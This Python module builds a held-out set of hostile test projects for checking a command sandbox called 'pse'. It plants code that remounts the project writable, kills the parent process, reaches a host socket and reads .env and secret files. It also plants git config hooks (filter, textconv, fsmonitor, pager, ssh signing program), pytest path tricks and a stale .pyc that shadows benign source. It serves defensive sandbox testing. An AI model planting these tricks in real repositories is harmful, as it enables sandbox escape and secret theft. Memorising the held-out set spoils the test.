"""A second planted-code attack set, kept out of the corpus the tests grow from.

The issue asks for 0 escapes on "an attack set you have not seen, of the same kinds".
These attacks were written after pse's defences, by the same author, so they only
approximate that: they vary where the planted code or config sits (``.git/info/
attributes``, nested ``.gitattributes``, ``config.worktree``, chained and conditional
includes, stale ``.pyc`` files, ``testpaths``/``python_files``/``rootdir`` tricks) and
what it tries (remounting the project writable, killing its parent, abstract unix
sockets, a fake linked worktree). ``bench/sandbox_attacks.py`` reports them on their own
line; no test names them, so that fitting them would show as a gap, not as green.
"""

from __future__ import annotations

import importlib.util
import os
import py_compile
import socket
from collections.abc import Iterator
from pathlib import Path

import sandbox_planted as planted

EXTRA_PAYLOAD = '''
import os, signal, socket, subprocess
def _pse_more(tag, here, markers, abstract):
    for argv in (["mount", "-o", "remount,rw", here], ["mount", "-t", "tmpfs", "x", here],
                 ["unshare", "-m", "sh", "-c", "touch " + markers + "/unshare-" + tag]):
        try:
            subprocess.run(argv, capture_output=True, timeout=5)
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        open(here + "/README.md", "a").write("PWNED")
    except OSError:
        pass
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect("\\0" + abstract)
        s.sendall(b"PWNED")
    except OSError:
        pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
_pse_more({tag!r}, {here!r}, {markers!r}, {abstract!r})
'''
ABSTRACT = f"pse-heldout-{os.getpid()}"
"""An abstract unix socket name on the host's network namespace."""


def _code(tag: str, root: Path, base: Path, port: int) -> str:
    return planted.payload(tag, here=root, base=base, port=port) + EXTRA_PAYLOAD.format(
        tag=tag, here=str(root), markers=str(base / "markers"), abstract=ABSTRACT)


def _pytest_projects(base: Path, port: int) -> Iterator[tuple[str, dict[str, str]]]:
    hostile = base / "heldout"
    test = "def test_ok():\n    pass\n"

    def code(name: str) -> str:
        return _code(name, hostile / name, base, port)

    yield "h-nested-conftest", {"tests/a/b/conftest.py": code("h-nested-conftest"),
                                "tests/a/b/test_x.py": test}
    yield "h-python-files", {"pytest.ini": "[pytest]\npython_files = *.py\n",
                             "tools/setup_env.py": code("h-python-files")}
    yield "h-testpaths-out", {"pytest.ini": "[pytest]\ntestpaths = ../../outside\n"}
    yield "h-rootdir-addopts", {"setup.cfg": "[tool:pytest]\naddopts = --rootdir=/ -p hplug\n",
                                "hplug.py": code("h-rootdir-addopts"), "tests/test_a.py": test}
    yield "h-pyproject-pythonpath", {
        "pyproject.toml": '[tool.pytest.ini_options]\npythonpath = ["lib"]\n'
                          'addopts = "-p libplug"\n',
        "lib/libplug.py": code("h-pyproject-pythonpath"), "tests/test_a.py": test}
    yield "h-conftest-spawn", {"conftest.py": "import os\nos.system('cat .env ../../outside/"
                               "secret.txt; touch ../../markers/h-spawn')\n"
                               + code("h-conftest-spawn"), "tests/test_a.py": test}
    yield "h-stale-pyc", {"pkg/__init__.py": "X = 1\n", "tests/test_a.py": "import pkg\n" + test}


def _git_projects(base: Path) -> Iterator[tuple[str, dict[str, str], dict[str, str]]]:
    drive = planted.driver
    yield "h-info-attributes", {}, {'filter "h"': f"\tclean = {drive('h-info', base)}"}
    yield "h-nested-attributes", {"sub/.gitattributes": "* filter=h diff=h\n",
                                  "sub/tracked.txt": "x\n"}, {
        'filter "h"': f"\tclean = {drive('h-nested', base)}",
        'diff "h"': f"\ttextconv = {drive('h-nested-tc', base)}"}
    yield "h-worktree-config", {".gitattributes": "* filter=h\n"}, {
        "extensions": "\tworktreeConfig = true", "core": "\trepositoryformatversion = 1"}
    yield "h-include-chain", {"a.cfg": "[include]\n\tpath = b.cfg\n",
                              "b.cfg": f'[filter "h"]\n\tclean = '
                                       f"{planted.quote(drive('h-chain', base))}\n",
                              ".gitattributes": "* filter=h\n"}, {"include": "\tpath = ../a.cfg"}
    monitor = planted.quote(drive("h-onbranch", base))
    yield "h-onbranch", {"c.cfg": f"[core]\n\tfsmonitor = {monitor}\n"}, {
        'includeIf "onbranch:*"': "\tpath = ../c.cfg"}
    yield "h-pager-more", {}, {"pager": f"\tblame = {drive('h-pb', base)}\n"
                                        f"\tgrep = {drive('h-pg', base)}\n"
                                        f"\tshow = {drive('h-ps', base)}"}
    yield "h-ssh-signature", {".hooks/sig": f"#!/bin/sh\n{drive('h-sig', base, tail='true')}\n"}, {
        "gpg": "\tformat = ssh", 'gpg "ssh"': "\tprogram = .hooks/sig\n"
                                             "\tallowedSignersFile = ../../outside/secret.txt"}
    yield "h-worktree-relative", {}, {"core": "\tworktree = ../../outside"}
    yield "h-show-blob-textconv", {".gitattributes": "*.txt diff=h\n"}, {
        'diff "h"': f"\ttextconv = {drive('h-blob-tc', base)}\n\tcachetextconv = true"}


_GIT_ARGV: tuple[tuple[str, ...], ...] = (
    ("status", "--porcelain=v2"), ("diff", "--color-words"), ("diff", "HEAD", "--stat"),
    ("blame", "-w", "tracked.txt"), ("log", "-p", "--word-diff", "-2"),
    ("show", "HEAD:tracked.txt"), ("grep", "-n", "-e", "one"), ("log", "--show-signature"),
)


def build(base: Path, port: int) -> dict[str, Path]:
    """Create the held-out projects under ``base/heldout``; name -> root."""
    (base / "heldout").mkdir()
    (base / "outside" / "test_outside.py").write_text(
        _code("h-testpaths-out", base / "heldout" / "h-testpaths-out", base, port))
    roots: dict[str, Path] = {}
    for name, files in _pytest_projects(base, port):
        roots[name] = _make(base, name, files, {})
    for name, files, config in _git_projects(base):
        roots[name] = _make(base, name, files, config)
    _finish(base, roots, port)
    return roots


def _make(base: Path, name: str, files: dict[str, str], config: dict[str, str]) -> Path:
    root = base / "heldout" / name
    planted.make_project(root, files, secret=planted.secret_for(name))
    for path in root.glob(".hooks/*"):
        path.chmod(0o755)
    planted.configure(root, config)
    return root


def _finish(base: Path, roots: dict[str, Path], port: int) -> None:
    info = roots["h-info-attributes"] / ".git" / "info"
    info.mkdir(exist_ok=True)
    (info / "attributes").write_text("* filter=h\n")
    worktree = roots["h-worktree-config"] / ".git" / "config.worktree"
    worktree.write_text(f'[filter "h"]\n\tclean = {planted.quote(planted.driver("h-wt", base))}\n')
    _stale_pyc(roots["h-stale-pyc"], _code("h-stale-pyc", roots["h-stale-pyc"], base, port))
    fake = base / "heldout" / "h-fake-worktree"
    fake.mkdir()
    (fake / "README.md").write_text("# fake worktree\n")
    pointer = fake / "meta" / "worktrees" / "w"
    pointer.mkdir(parents=True)
    (pointer / "commondir").write_text(str(base / "outside" / "repo" / ".git"))
    (pointer / "gitdir").write_text(str(fake / ".git"))
    (pointer / "HEAD").write_text("ref: refs/heads/master\n")
    (fake / ".git").write_text(f"gitdir: {pointer}\n")
    roots["h-fake-worktree"] = fake


def _stale_pyc(root: Path, code: str) -> None:
    """A ``__pycache__`` entry Python loads without checking the benign source it shadows."""
    source = root / "pkg" / "__init__.py"
    evil = root / "evil_src.py"
    evil.write_text(code + "\nX = 1\n")
    tag = importlib.util.cache_from_source(str(source))
    py_compile.compile(str(evil), cfile=tag, invalidation_mode=py_compile.PycInvalidationMode.
                       UNCHECKED_HASH)
    evil.unlink()


def listen_abstract() -> socket.socket:
    """The abstract unix socket planted code tries to reach (host network namespace)."""
    server = socket.socket(socket.AF_UNIX)
    server.bind("\0" + ABSTRACT)
    server.listen(4)
    server.setblocking(False)
    return server


def cases(case: type, roots: dict[str, Path]) -> Iterator[object]:
    """The held-out cases, built with the corpus's ``Case`` class."""
    for name in roots:
        if name in {n for n, _ in _pytest_projects(Path("/"), 0)}:
            yield case(f"heldout-pytest-{name}", "heldout-pytest", "run_command",
                       {"argv": ["python", "-m", "pytest", "--co", "-q"]}, "ok", project=name,
                       fallback="needs-isolation", needs="git",
                       shell="python -m pytest --co -q")
        elif name == "h-fake-worktree":
            yield case(f"heldout-{name}", "heldout-git", "run_command",
                       {"argv": ["git", "log", "-p"]}, "not-allowed", project=name,
                       needs="git", shell="git log -p")
        else:
            for argv in _GIT_ARGV:
                yield case(f"heldout-{name}-{'-'.join(a.strip('-') for a in argv)}",
                           "heldout-git", "run_command", {"argv": ["git", *argv]}, "ok",
                           project=name, needs="git", shell=" ".join(["git", *argv]))
